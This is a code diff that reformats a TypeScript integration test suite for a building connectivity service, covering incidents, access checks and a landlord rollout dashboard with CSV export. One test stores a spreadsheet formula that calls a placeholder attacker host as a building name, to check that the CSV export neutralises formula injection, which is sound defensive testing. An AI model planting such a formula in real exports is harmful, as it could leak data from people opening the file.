@@ -1,7 +1,14 @@
 import { parse } from 'csv-parse/sync';
 import { sql, type SQL } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { incidentCategories, incidentStatuses, incidentTransitions, type IncidentCategory, type IncidentStatus, workingDaysToFix } from '../src/connectivity/incidents.rules.ts';
+import {
+  incidentCategories,
+  incidentStatuses,
+  incidentTransitions,
+  type IncidentCategory,
+  type IncidentStatus,
+  workingDaysToFix,
+} from '../src/connectivity/incidents.rules.ts';
 import { dueDate, parisDate } from '../src/connectivity/working-days.ts';
 import { nextStatuses } from '../src/status-machine.ts';
 import type { Harness } from './helpers/harness.ts';
@@ -36,7 +43,9 @@ const eventCount = () => countOf(sql`select count(*)::int as count from incident
 /** What a refused change must leave alone: the incident's row and its history. */
 async function snapshot(incidentId: string) {
   const [row] = await harness.database.db.execute(sql`select status, version, resolution, resolved_at, updated_at from incidents where id = ${incidentId}`);
-  const events = await harness.database.db.execute(sql`select id, from_status, to_status, actor_user_id, note from incident_events where incident_id = ${incidentId} order by id`);
+  const events = await harness.database.db.execute(
+    sql`select id, from_status, to_status, actor_user_id, note from incident_events where incident_id = ${incidentId} order by id`,
+  );
   return { row, events: [...events] };
 }
 
@@ -59,7 +68,10 @@ async function apartmentsOf(token: string, buildingId: string): Promise<{ id: st
 }
 
 async function accessPoint(token: string, buildingId: string, floor = 0): Promise<string> {
-  return ok(await world.call('POST', `/api/buildings/${buildingId}/network-devices`, { token, body: { kind: 'access_point', model: 'TP-Link EAP245', floor } }), 201).id;
+  return ok(
+    await world.call('POST', `/api/buildings/${buildingId}/network-devices`, { token, body: { kind: 'access_point', model: 'TP-Link EAP245', floor } }),
+    201,
+  ).id;
 }
 
 const openIncident = (token: string, body: Record<string, unknown>) =>
@@ -98,7 +110,12 @@ beforeAll(async () => {
   mediator = await world.account((await world.organisation('mediation')).id, 'mediator');
 
   const token = landlord.manager.token;
-  building = await world.building(token, landlord.residence.id, { apartments: [{ unit: '001', floor: 0 }, { unit: '101', floor: 1 }] });
+  building = await world.building(token, landlord.residence.id, {
+    apartments: [
+      { unit: '001', floor: 0 },
+      { unit: '101', floor: 1 },
+    ],
+  });
   ok(await world.call('PATCH', `/api/buildings/${building.id}/deployment`, { token, body: { ispOrganisationId: isp.organisation.id } }));
   apartmentId = (await apartmentsOf(token, building.id))[0]!.id;
   accessPointId = await accessPoint(isp.installer.token, building.id);
@@ -152,8 +169,16 @@ describe('opening an incident', () => {
           openedByUserId: account.id,
           version: 1,
         });
-        const [row] = await harness.database.db.execute(sql`select building_id, apartment_id, network_device_id, opened_by_user_id, status from incidents where id = ${incident.id}`);
-        expect(row).toEqual({ building_id: building.id, apartment_id: fields.apartmentId ?? null, network_device_id: fields.networkDeviceId ?? null, opened_by_user_id: account.id, status: 'open' });
+        const [row] = await harness.database.db.execute(
+          sql`select building_id, apartment_id, network_device_id, opened_by_user_id, status from incidents where id = ${incident.id}`,
+        );
+        expect(row).toEqual({
+          building_id: building.id,
+          apartment_id: fields.apartmentId ?? null,
+          network_device_id: fields.networkDeviceId ?? null,
+          opened_by_user_id: account.id,
+          status: 'open',
+        });
         expect(await eventsOf(incident.id)).toEqual([{ from_status: null, to_status: 'open', actor_user_id: account.id, note: null }]);
         const seen = ok(await world.call('GET', `/api/incidents/${incident.id}`, { token: landlord.manager.token }));
         expect(seen.events).toMatchObject([{ fromStatus: null, toStatus: 'open', actorUserId: account.id }]);
@@ -167,34 +192,40 @@ describe('opening an incident', () => {
     { what: 'an access point of another building of the same landlord', field: 'networkDeviceId', id: () => sibling.accessPointId },
     { what: 'an access point of another landlord’s building', field: 'networkDeviceId', id: () => foreign.accessPointId },
   ];
-  for (const { what, field, id } of misplaced) it(`refuses ${what}, naming ${field}, and records nothing`, async () => {
-    const [incidentsBefore, eventsBefore] = [await incidentCount(), await eventCount()];
-    const refused = await openIncident(landlord.manager.token, { buildingId: building.id, [field]: id() });
-    expect(refused.status, JSON.stringify(refused.body)).toBe(422);
-    expect(refused.body).toMatchObject({ code: 'validation_failed', errors: [{ path: field }] });
-    expect(refused.body.errors).toHaveLength(1);
-    expect([await incidentCount(), await eventCount()]).toEqual([incidentsBefore, eventsBefore]);
-  });
+  for (const { what, field, id } of misplaced)
+    it(`refuses ${what}, naming ${field}, and records nothing`, async () => {
+      const [incidentsBefore, eventsBefore] = [await incidentCount(), await eventCount()];
+      const refused = await openIncident(landlord.manager.token, { buildingId: building.id, [field]: id() });
+      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
+      expect(refused.body).toMatchObject({ code: 'validation_failed', errors: [{ path: field }] });
+      expect(refused.body.errors).toHaveLength(1);
+      expect([await incidentCount(), await eventCount()]).toEqual([incidentsBefore, eventsBefore]);
+    });
 
   it('names both the apartment and the access point when neither belongs to the building', async () => {
     const before = await incidentCount();
-    const refused = await openIncident(isp.installer.token, { buildingId: building.id, apartmentId: sibling.apartmentId, networkDeviceId: foreign.accessPointId });
+    const refused = await openIncident(isp.installer.token, {
+      buildingId: building.id,
+      apartmentId: sibling.apartmentId,
+      networkDeviceId: foreign.accessPointId,
+    });
     expect(refused.status).toBe(422);
     expect(refused.body.errors.map((error: { path: string }) => error.path).sort()).toEqual(['apartmentId', 'networkDeviceId']);
     expect(await incidentCount()).toBe(before);
   });
 
-  for (const { who, account } of strangers) it(`refuses ${who} on a building they do not see, naming buildingId, and records nothing`, async () => {
-    const [incidentsBefore, eventsBefore] = [await incidentCount(), await eventCount()];
-    const refused = await openIncident(account().token, { buildingId: building.id });
-    expect(refused.status, JSON.stringify(refused.body)).toBe(422);
-    expect(refused.body).toMatchObject({ code: 'validation_failed', errors: [{ path: 'buildingId' }] });
-    // The refusal does not tell a stranger that the building exists.
-    const unknown = await openIncident(account().token, { buildingId: '00000000-0000-4000-8000-000000000000' });
-    expect(unknown.status).toBe(422);
-    expect(unknown.body.errors).toEqual(refused.body.errors);
-    expect([await incidentCount(), await eventCount()]).toEqual([incidentsBefore, eventsBefore]);
-  });
+  for (const { who, account } of strangers)
+    it(`refuses ${who} on a building they do not see, naming buildingId, and records nothing`, async () => {
+      const [incidentsBefore, eventsBefore] = [await incidentCount(), await eventCount()];
+      const refused = await openIncident(account().token, { buildingId: building.id });
+      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
+      expect(refused.body).toMatchObject({ code: 'validation_failed', errors: [{ path: 'buildingId' }] });
+      // The refusal does not tell a stranger that the building exists.
+      const unknown = await openIncident(account().token, { buildingId: '00000000-0000-4000-8000-000000000000' });
+      expect(unknown.status).toBe(422);
+      expect(unknown.body.errors).toEqual(refused.body.errors);
+      expect([await incidentCount(), await eventCount()]).toEqual([incidentsBefore, eventsBefore]);
+    });
 });
 
 describe('due dates, from the time to fix of each category', () => {
@@ -214,41 +245,44 @@ describe('due dates, from the time to fix of each category', () => {
 describe('moving an incident along', () => {
   const pairs = incidentStatuses.flatMap((from) => incidentStatuses.map((to) => ({ from, to, allowed: nextFrom(from).includes(to) })));
 
-  for (const { from, to } of pairs.filter((pair) => pair.allowed)) it(`moves an incident from ${from} to ${to}, and records who did it`, async () => {
-    const incident = await incidentIn(from);
-    const before = ok(await world.call('GET', `/api/incidents/${incident.id}`, { token: landlord.manager.token }));
-    const note = to === 'resolved' ? resolutionNote : undefined;
-    const moved = ok(await move(isp.installer.token, incident.id, to, note));
-    expect(moved).toMatchObject({ id: incident.id, status: to, version: before.version + 1 });
-    if (to === 'resolved') expect(moved).toMatchObject({ resolution: resolutionNote, resolvedAt: expect.any(String) });
-    const events = await eventsOf(incident.id);
-    expect(events).toHaveLength(before.events.length + 1);
-    expect(events.at(-1)).toEqual({ from_status: from, to_status: to, actor_user_id: isp.installer.id, note: note ?? null });
-  });
+  for (const { from, to } of pairs.filter((pair) => pair.allowed))
+    it(`moves an incident from ${from} to ${to}, and records who did it`, async () => {
+      const incident = await incidentIn(from);
+      const before = ok(await world.call('GET', `/api/incidents/${incident.id}`, { token: landlord.manager.token }));
+      const note = to === 'resolved' ? resolutionNote : undefined;
+      const moved = ok(await move(isp.installer.token, incident.id, to, note));
+      expect(moved).toMatchObject({ id: incident.id, status: to, version: before.version + 1 });
+      if (to === 'resolved') expect(moved).toMatchObject({ resolution: resolutionNote, resolvedAt: expect.any(String) });
+      const events = await eventsOf(incident.id);
+      expect(events).toHaveLength(before.events.length + 1);
+      expect(events.at(-1)).toEqual({ from_status: from, to_status: to, actor_user_id: isp.installer.id, note: note ?? null });
+    });
 
-  for (const { from, to } of pairs.filter((pair) => !pair.allowed)) it(`refuses to move an incident from ${from} to ${to}, says where it can go, and changes nothing`, async () => {
-    const incident = await incidentIn(from);
-    const before = await snapshot(incident.id);
-    const refused = await move(isp.installer.token, incident.id, to, to === 'resolved' ? resolutionNote : undefined);
-    expect(refused.status, JSON.stringify(refused.body)).toBe(409);
-    expect(refused.body).toMatchObject({ code: 'transition_not_allowed', status: 409, currentStatus: from, allowedNextStatuses: nextFrom(from) });
-    expect(refused.body.detail).toContain(from);
-    expect(await snapshot(incident.id)).toEqual(before);
-  });
+  for (const { from, to } of pairs.filter((pair) => !pair.allowed))
+    it(`refuses to move an incident from ${from} to ${to}, says where it can go, and changes nothing`, async () => {
+      const incident = await incidentIn(from);
+      const before = await snapshot(incident.id);
+      const refused = await move(isp.installer.token, incident.id, to, to === 'resolved' ? resolutionNote : undefined);
+      expect(refused.status, JSON.stringify(refused.body)).toBe(409);
+      expect(refused.body).toMatchObject({ code: 'transition_not_allowed', status: 409, currentStatus: from, allowedNextStatuses: nextFrom(from) });
+      expect(refused.body.detail).toContain(from);
+      expect(await snapshot(incident.id)).toEqual(before);
+    });
 
   const resolvable = incidentStatuses.filter((status) => nextFrom(status).includes('resolved'));
   const missingNotes = resolvable.flatMap((from) => [
     { from, how: 'no note', note: undefined },
     { from, how: 'a blank note', note: '   ' },
   ]);
-  for (const { from, how, note } of missingNotes) it(`refuses to resolve an incident that is ${from} with ${how}, naming note, and changes nothing`, async () => {
-    const incident = await incidentIn(from);
-    const before = await snapshot(incident.id);
-    const refused = await move(landlord.manager.token, incident.id, 'resolved', note);
-    expect(refused.status, JSON.stringify(refused.body)).toBe(422);
-    expect(refused.body.errors).toMatchObject([{ path: 'note' }]);
-    expect(await snapshot(incident.id)).toEqual(before);
-  });
+  for (const { from, how, note } of missingNotes)
+    it(`refuses to resolve an incident that is ${from} with ${how}, naming note, and changes nothing`, async () => {
+      const incident = await incidentIn(from);
+      const before = await snapshot(incident.id);
+      const refused = await move(landlord.manager.token, incident.id, 'resolved', note);
+      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
+      expect(refused.body.errors).toMatchObject([{ path: 'note' }]);
+      expect(await snapshot(incident.id)).toEqual(before);
+    });
 
   it('clears the resolution when a resolved incident is reopened, and takes a new one when resolved again', async () => {
     const incident = await incidentIn('resolved');
@@ -306,14 +340,15 @@ describe('moving an incident along', () => {
     }
   });
 
-  for (const { who, account } of strangers) it(`hides the incident from ${who}: they can neither read nor move it (404), and nothing changes`, async () => {
-    const incident = await incidentIn('open');
-    const before = await snapshot(incident.id);
-    expect((await world.call('GET', `/api/incidents/${incident.id}`, { token: account().token })).status).toBe(404);
-    const refused = await move(account().token, incident.id, 'in_progress');
-    expect(refused.status, JSON.stringify(refused.body)).toBe(404);
-    expect(await snapshot(incident.id)).toEqual(before);
-  });
+  for (const { who, account } of strangers)
+    it(`hides the incident from ${who}: they can neither read nor move it (404), and nothing changes`, async () => {
+      const incident = await incidentIn('open');
+      const before = await snapshot(incident.id);
+      expect((await world.call('GET', `/api/incidents/${incident.id}`, { token: account().token })).status).toBe(404);
+      const refused = await move(account().token, incident.id, 'in_progress');
+      expect(refused.status, JSON.stringify(refused.body)).toBe(404);
+      expect(await snapshot(incident.id)).toEqual(before);
+    });
 });
 
 describe('overdue incidents', () => {
@@ -366,13 +401,17 @@ describe('overdue incidents', () => {
     expect(items.map((item: { id: string }) => item.id)).toEqual([ids.dueTenDaysAgoOpen, ids.dueYesterdayInProgress]);
   });
 
-  for (const { who, account } of strangers) it(`shows ${who} none of them`, async () => {
-    const token = account().token;
-    for (const path of ['/api/incidents?overdue=true', '/api/incidents?limit=500', `/api/incidents?buildingId=${lateBuilding.id}`]) {
-      const { items } = ok(await world.call('GET', path, { token }));
-      expect(items.filter((item: { id: string }) => Object.values(ids).includes(item.id)), path).toEqual([]);
-    }
-  });
+  for (const { who, account } of strangers)
+    it(`shows ${who} none of them`, async () => {
+      const token = account().token;
+      for (const path of ['/api/incidents?overdue=true', '/api/incidents?limit=500', `/api/incidents?buildingId=${lateBuilding.id}`]) {
+        const { items } = ok(await world.call('GET', path, { token }));
+        expect(
+          items.filter((item: { id: string }) => Object.values(ids).includes(item.id)),
+          path,
+        ).toEqual([]);
+      }
+    });
 });
 
 describe('a landlord’s rollout dashboard', () => {
@@ -380,7 +419,23 @@ describe('a landlord’s rollout dashboard', () => {
   let north: { id: string; name: string };
   let trap: { id: string; name: string };
   const formula = '=HYPERLINK("http://evil.example/?leak","Cliquez ici")';
-  const csvHeader = ['résidence', 'bâtiment', 'adresse', 'commune', 'statut', 'logements', 'provisionnés', 'adhérents', 'adhésion (%)', 'refus', 'incidents ouverts', 'incidents en retard', 'coût mensuel par logement (€)', 'total mensuel (€)', 'récupération du coût'];
+  const csvHeader = [
+    'résidence',
+    'bâtiment',
+    'adresse',
+    'commune',
+    'statut',
+    'logements',
+    'provisionnés',
+    'adhérents',
+    'adhésion (%)',
+    'refus',
+    'incidents ouverts',
+    'incidents en retard',
+    'coût mensuel par logement (€)',
+    'total mensuel (€)',
+    'récupération du coût',
+  ];
 
   async function optIn(buildingId: string, choices: Record<string, 'in' | 'out'>) {
     for (const apartment of await apartmentsOf(owner.manager.token, buildingId)) {
@@ -399,9 +454,15 @@ describe('a landlord’s rollout dashboard', () => {
     owner = await world.landlord();
     const token = owner.manager.token;
     // 3 apartments: 2 in, 1 out (66.7 %); 250 cents each, in the rent.
-    north = await world.building(token, owner.residence.id, { name: 'Bât. Nord', apartments: ['001', '002', '101'].map((unit) => ({ unit, floor: Number(unit[0]) })) });
+    north = await world.building(token, owner.residence.id, {
+      name: 'Bât. Nord',
+      apartments: ['001', '002', '101'].map((unit) => ({ unit, floor: Number(unit[0]) })),
+    });
     // 6 apartments: 1 in, none out (16.7 %); 199 cents each, in the service charge.
-    trap = await world.building(token, owner.residence.id, { name: formula, apartments: ['001', '002', '003', '101', '102', '103'].map((unit) => ({ unit, floor: Number(unit[0]) })) });
+    trap = await world.building(token, owner.residence.id, {
+      name: formula,
+      apartments: ['001', '002', '003', '101', '102', '103'].map((unit) => ({ unit, floor: Number(unit[0]) })),
+    });
     await optIn(north.id, { '001': 'in', '002': 'in', '101': 'out' });
     await optIn(trap.id, { '102': 'in' });
     ok(await world.call('PATCH', `/api/buildings/${north.id}/deployment`, { token, body: { monthlyCostCents: 250, costRecovery: 'rent' } }));
@@ -496,7 +557,11 @@ describe('a landlord’s rollout dashboard', () => {
       'total mensuel (€)': '7,50',
       'récupération du coût': 'Inclus dans le loyer',
     });
-    expect(records.find((record) => record['bâtiment'] !== 'Bât. Nord')).toMatchObject({ logements: '6', 'adhésion (%)': '16,7', 'total mensuel (€)': '11,94' });
+    expect(records.find((record) => record['bâtiment'] !== 'Bât. Nord')).toMatchObject({
+      logements: '6',
+      'adhésion (%)': '16,7',
+      'total mensuel (€)': '11,94',
+    });
   });
 
   it('neutralises a building name that a spreadsheet would run as a formula', async () => {
@@ -512,24 +577,31 @@ describe('a landlord’s rollout dashboard', () => {
     { who: 'a mediator', account: () => mediator },
     { who: 'an installer', account: () => isp.installer },
   ];
-  for (const { who, account } of outsiders) it(`does not exist for ${who} (404), as JSON or CSV`, async () => {
-    const token = account().token;
-    const json = await world.call('GET', `/api/landlords/${owner.organisation.id}/rollout`, { token });
-    expect(json.status, JSON.stringify(json.body)).toBe(404);
-    expect(JSON.stringify(json.body)).not.toContain('Nord');
-    const { response, text } = await csvOf(token);
-    expect(response.status).toBe(404);
-    expect(text).not.toContain('Nord');
-  });
+  for (const { who, account } of outsiders)
+    it(`does not exist for ${who} (404), as JSON or CSV`, async () => {
+      const token = account().token;
+      const json = await world.call('GET', `/api/landlords/${owner.organisation.id}/rollout`, { token });
+      expect(json.status, JSON.stringify(json.body)).toBe(404);
+      expect(JSON.stringify(json.body)).not.toContain('Nord');
+      const { response, text } = await csvOf(token);
+      expect(response.status).toBe(404);
+      expect(text).not.toContain('Nord');
+    });
 
   it('shows a building with no apartments and no cost yet as 0 % and no charges, blank in the CSV', async () => {
     const empty = await world.landlord();
     await world.building(empty.manager.token, empty.residence.id, { name: 'Bât. Vide' });
     const rollout = ok(await world.call('GET', `/api/landlords/${empty.organisation.id}/rollout`, { token: empty.manager.token }));
-    expect(rollout.buildings).toMatchObject([{ building: 'Bât. Vide', apartments: 0, optedInPercent: 0, monthlyCostCents: null, monthlyChargesTotalCents: null, costRecovery: null }]);
+    expect(rollout.buildings).toMatchObject([
+      { building: 'Bât. Vide', apartments: 0, optedInPercent: 0, monthlyCostCents: null, monthlyChargesTotalCents: null, costRecovery: null },
+    ]);
     expect(rollout.totals).toMatchObject({ apartments: 0, optedInPercent: 0, monthlyChargesTotalCents: 0 });
-    const response = await world.app.request(`/api/landlords/${empty.organisation.id}/rollout.csv`, { headers: { authorization: `Bearer ${empty.manager.token}` } });
+    const response = await world.app.request(`/api/landlords/${empty.organisation.id}/rollout.csv`, {
+      headers: { authorization: `Bearer ${empty.manager.token}` },
+    });
     const records = parse(await response.text(), { delimiter: ';', bom: true, columns: true }) as Record<string, string>[];
-    expect(records).toMatchObject([{ bâtiment: 'Bât. Vide', 'adhésion (%)': '0', 'coût mensuel par logement (€)': '', 'total mensuel (€)': '', 'récupération du coût': '' }]);
+    expect(records).toMatchObject([
+      { bâtiment: 'Bât. Vide', 'adhésion (%)': '0', 'coût mensuel par logement (€)': '', 'total mensuel (€)': '', 'récupération du coût': '' },
+    ]);
   });
 });
